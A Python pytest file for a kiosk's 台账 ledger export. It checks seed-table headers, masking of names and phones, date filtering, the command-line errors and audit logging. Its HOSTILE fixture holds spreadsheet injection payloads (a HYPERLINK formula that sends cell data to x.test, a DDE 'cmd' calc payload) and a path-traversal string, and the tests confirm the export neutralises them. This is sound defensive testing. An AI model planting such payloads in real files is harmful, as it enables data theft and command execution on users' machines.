"""The 台账 export: the seeds' exact headers (CSV and XLSX, read back with openpyxl), masked
names and phones whatever the ledger holds, the date filter, an empty ledger, hostile text
(formula injection, control characters, path-like names), and the command line's typed
errors and audit entries."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from kiosk.documents.model import LedgerRow
from kiosk.ledger import Ledger
from kiosk.paths import REPO
from kiosk.staff.errors import StaffError
from kiosk.staff.ledger_export import HEADERS, Format, Layout, export_ledger

# copied by hand from seed 003 表 C.1 and seed 004 附件3 (the test below also reads the seeds)
APPENDIX_C = ["办理时间", "业务科室", "办理事项", "数量", "办件类型 (即办件/承诺件)", "申请人",
              "联系电话", "办理窗口", "办理人员", "办理状态", "备注"]
GUANGYUAN = ["日期", "申请人", "联系电话", "通办类型", "通办具体地区", "事项名称", "经办人", "备注"]
FULL_NAME, FULL_PHONE = "欧阳明华", "13812345678"


def _row(n: int, day: date, **extra: object) -> LedgerRow:
    values: dict = {
        "case_number": f"110101-0001-{day:%y%m%d}-{n:04d}-0",
        "time": datetime(day.year, day.month, day.day, 10, n % 60),
        "department": "市人社局", "matter_code": "M1", "matter_name": "失业登记", "count": 2,
        "case_type": "承诺件", "applicant_masked": FULL_NAME, "phone_masked": FULL_PHONE,
        "window": "110101-0001", "staff": "自助终端", "state": "已代收待流转",
        "scope": "跨省通办", "regions": "四川省广元市", "note": ""}
    values.update(extra)
    return LedgerRow(**values)


def _ledger(tmp: Path, rows: list[LedgerRow]) -> Ledger:
    ledger = Ledger(tmp / "ledger.sqlite")
    for row in rows:
        ledger.record(row)
    return ledger


def _csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")                         # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx(path: Path) -> list[list[object]]:
    sheet = openpyxl.load_workbook(path).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize(("layout", "header"), [(Layout.APPENDIX_C, APPENDIX_C),
                                                (Layout.GUANGYUAN, GUANGYUAN)])
def test_headers_equal_the_seed_tables(tmp_path: Path, layout: Layout, header: list[str]) -> None:
    ledger = _ledger(tmp_path, [_row(1, date(2026, 12, 1))])
    export_ledger(ledger, layout, Format.XLSX, date(2026, 12, 1), date(2026, 12, 1),
                  tmp_path / "t.xlsx")
    export_ledger(ledger, layout, Format.CSV, date(2026, 12, 1), date(2026, 12, 1),
                  tmp_path / "t.csv")
    assert _xlsx(tmp_path / "t.xlsx")[0] == header
    assert _csv(tmp_path / "t.csv")[0] == header


def _seeds() -> Path | None:
    for folder in (REPO.parent / "shared" / "seeds", Path("/work/shared/seeds")):
        if folder.is_dir():
            return folder
    return None


@pytest.mark.skipif(_seeds() is None, reason="the seeds (shared/seeds) are not beside the repo")
def test_headers_are_the_seed_files_strings() -> None:
    folder = _seeds()
    assert folder is not None
    c_text = next(folder.glob("003_*")).read_text(encoding="utf-8").splitlines()
    assert next(line.split("\t") for line in c_text if line.startswith("办理时间\t")) == \
        list(HEADERS[Layout.APPENDIX_C])
    g_text = next(folder.glob("004_*")).read_text(encoding="utf-8").splitlines()
    start = next(i for i, line in enumerate(g_text) if line.strip() == "附件3")
    assert g_text[start + 1].endswith("工作登记台账")
    cells = [line.strip() for line in g_text[start + 2:start + 10]]
    assert cells == list(HEADERS[Layout.GUANGYUAN])


@pytest.mark.parametrize("fmt", list(Format))
def test_masked_export_holds_no_full_name_or_phone(tmp_path: Path, fmt: Format) -> None:
    ledger = _ledger(tmp_path, [_row(i, date(2026, 12, 1)) for i in range(1, 4)])
    out = tmp_path / f"t.{fmt.value}"
    for layout in Layout:
        export_ledger(ledger, layout, fmt, date(2026, 12, 1), date(2026, 12, 1), out)
        raw = out.read_bytes()
        texts = [raw] if fmt is Format.CSV else [
            zipfile.ZipFile(out).read(n) for n in zipfile.ZipFile(out).namelist()]
        for blob in texts:
            assert FULL_NAME.encode() not in blob and FULL_PHONE.encode() not in blob
        assert any("欧**华".encode() in blob and b"138****5678" in blob for blob in texts)


def test_unmasked_is_refused_with_its_reason(tmp_path: Path) -> None:
    ledger = _ledger(tmp_path, [_row(1, date(2026, 12, 1))])
    with pytest.raises(StaffError) as info:
        export_ledger(ledger, Layout.GUANGYUAN, Format.CSV, date(2026, 12, 1),
                      date(2026, 12, 1), tmp_path / "u.csv", unmasked=True)
    assert info.value.code == "not_held" and not (tmp_path / "u.csv").exists()


def test_date_filter_includes_both_ends_only(tmp_path: Path) -> None:
    days = [date(2026, 11, 30), date(2026, 12, 1), date(2026, 12, 5), date(2026, 12, 6)]
    ledger = _ledger(tmp_path, [_row(i, d) for i, d in enumerate(days, 1)])
    done = export_ledger(ledger, Layout.GUANGYUAN, Format.CSV, date(2026, 12, 1),
                         date(2026, 12, 5), tmp_path / "t.csv")
    rows = _csv(tmp_path / "t.csv")[1:]
    assert done.rows == 2 and [r[0] for r in rows] == ["2026-12-01", "2026-12-05"]
    with pytest.raises(StaffError) as info:
        export_ledger(ledger, Layout.GUANGYUAN, Format.CSV, date(2026, 12, 5),
                      date(2026, 12, 1), tmp_path / "t.csv")
    assert info.value.code == "bad_dates"


@pytest.mark.parametrize("fmt", list(Format))
def test_empty_ledger_exports_the_header_only(tmp_path: Path, fmt: Format) -> None:
    out = tmp_path / f"t.{fmt.value}"
    done = export_ledger(_ledger(tmp_path, []), Layout.APPENDIX_C, fmt, date(2026, 1, 1),
                         date(2026, 12, 31), out)
    assert done.rows == 0
    assert (_csv(out) if fmt is Format.CSV else _xlsx(out)) == [APPENDIX_C]


HOSTILE = {"matter_name": '=HYPERLINK("http://x.test/?a="&A1,"点我")', "department": "+1+1",
           "staff": "@SUM(A1)", "state": "-2+3", "regions": "\t=cmd|' /C calc'!A0",
           "note": '含"引号",逗号\r\n换行\x00\x07\x1b', "applicant_masked": "../../etc/passwd",
           "phone_masked": "=1+2345678901"}


def test_hostile_text_is_inert_in_csv(tmp_path: Path) -> None:
    ledger = _ledger(tmp_path, [_row(1, date(2026, 12, 1), **HOSTILE)])
    for layout in Layout:
        export_ledger(ledger, layout, Format.CSV, date(2026, 12, 1), date(2026, 12, 1),
                      tmp_path / "t.csv")
        [_header, row] = _csv(tmp_path / "t.csv")
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
        assert any(cell.startswith("'=HYPERLINK") for cell in row) or layout is Layout.GUANGYUAN
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ledger.sqlite", "ledger.sqlite-shm",
                                                          "ledger.sqlite-wal", "t.csv"]


def test_hostile_text_is_text_in_xlsx(tmp_path: Path) -> None:
    ledger = _ledger(tmp_path, [_row(1, date(2026, 12, 1), **HOSTILE)])
    export_ledger(ledger, Layout.APPENDIX_C, Format.XLSX, date(2026, 12, 1),
                  date(2026, 12, 1), tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert all(c.data_type in ("s", "n") for c in cells)              # no formula ("f")
    assert cells[2].value == HOSTILE["matter_name"]
    assert "\x00" not in str(cells[10].value) and "换行" in str(cells[10].value)


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kiosk", *args], capture_output=True,
                          text=True, timeout=120)


def _audit(tmp: Path) -> list[dict]:
    path = tmp / "staff" / "audit.log"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def test_cli_exports_and_audits(tmp_path: Path) -> None:
    _ledger(tmp_path, [_row(1, date(2026, 12, 1))]).close()
    out = tmp_path / "out.xlsx"
    done = _cli("ledger", "export", "--layout", "appendix-c", "--format", "xlsx", "--from",
                "2026-12-01", "--to", "2026-12-31", "--out", str(out), "--data-dir", str(tmp_path))
    assert done.returncode == 0, done.stderr
    assert _xlsx(out)[0] == APPENDIX_C and len(_xlsx(out)) == 2
    [entry] = _audit(tmp_path)
    assert entry["action"] == "ledger.export" and entry["after"]["rows"] == 1
    assert entry["after"]["result"] == "done" and entry["staff"] == ""
    assert _cli("audit", "verify", "--data-dir", str(tmp_path)).returncode == 0


@pytest.mark.parametrize(("change", "code_zh"), [
    ({"--from": "2026-13-01"}, "日期无效"), ({"--to": "yesterday"}, "日期无效"),
    ({"--layout": "appendix-d"}, "版式无效"), ({"--format": "ods"}, "格式无效"),
    ({"--out": "/nonexistent-folder/x.csv"}, ""), ({"--from": "2026-12-31", "--to": "2026-12-01"},
                                                   "早于"),
    ({"--unmasked": None}, "脱敏")])
def test_cli_errors_are_typed_bilingual_and_nonzero(tmp_path: Path, change: dict,
                                                    code_zh: str) -> None:
    _ledger(tmp_path, [_row(1, date(2026, 12, 1))]).close()
    argv = {"--layout": "guangyuan", "--format": "csv", "--from": "2026-12-01",
            "--to": "2026-12-31", "--out": str(tmp_path / "o.csv"), "--data-dir": str(tmp_path)}
    argv.update(change)
    flat = [x for k, v in argv.items() for x in ((k,) if v is None else (k, v))]
    done = _cli("ledger", "export", *flat)
    assert done.returncode != 0 and " / " in done.stderr and code_zh in done.stderr
    assert "Traceback" not in done.stderr and not (tmp_path / "o.csv").exists()
    [entry] = _audit(tmp_path)                           # refused or failed: audited once
    assert entry["action"] == "ledger.export" and entry["after"]["result"] != "done"
    if "--unmasked" in change:
        assert entry["after"]["result"] == "not_held"


def test_cli_refuses_a_missing_ledger(tmp_path: Path) -> None:
    done = _cli("ledger", "export", "--layout", "guangyuan", "--format", "csv", "--from",
                "2026-12-01", "--to", "2026-12-02", "--out", str(tmp_path / "o.csv"),
                "--data-dir", str(tmp_path))
    assert done.returncode != 0 and "台账" in done.stderr
    assert not (tmp_path / "ledger.sqlite").exists()
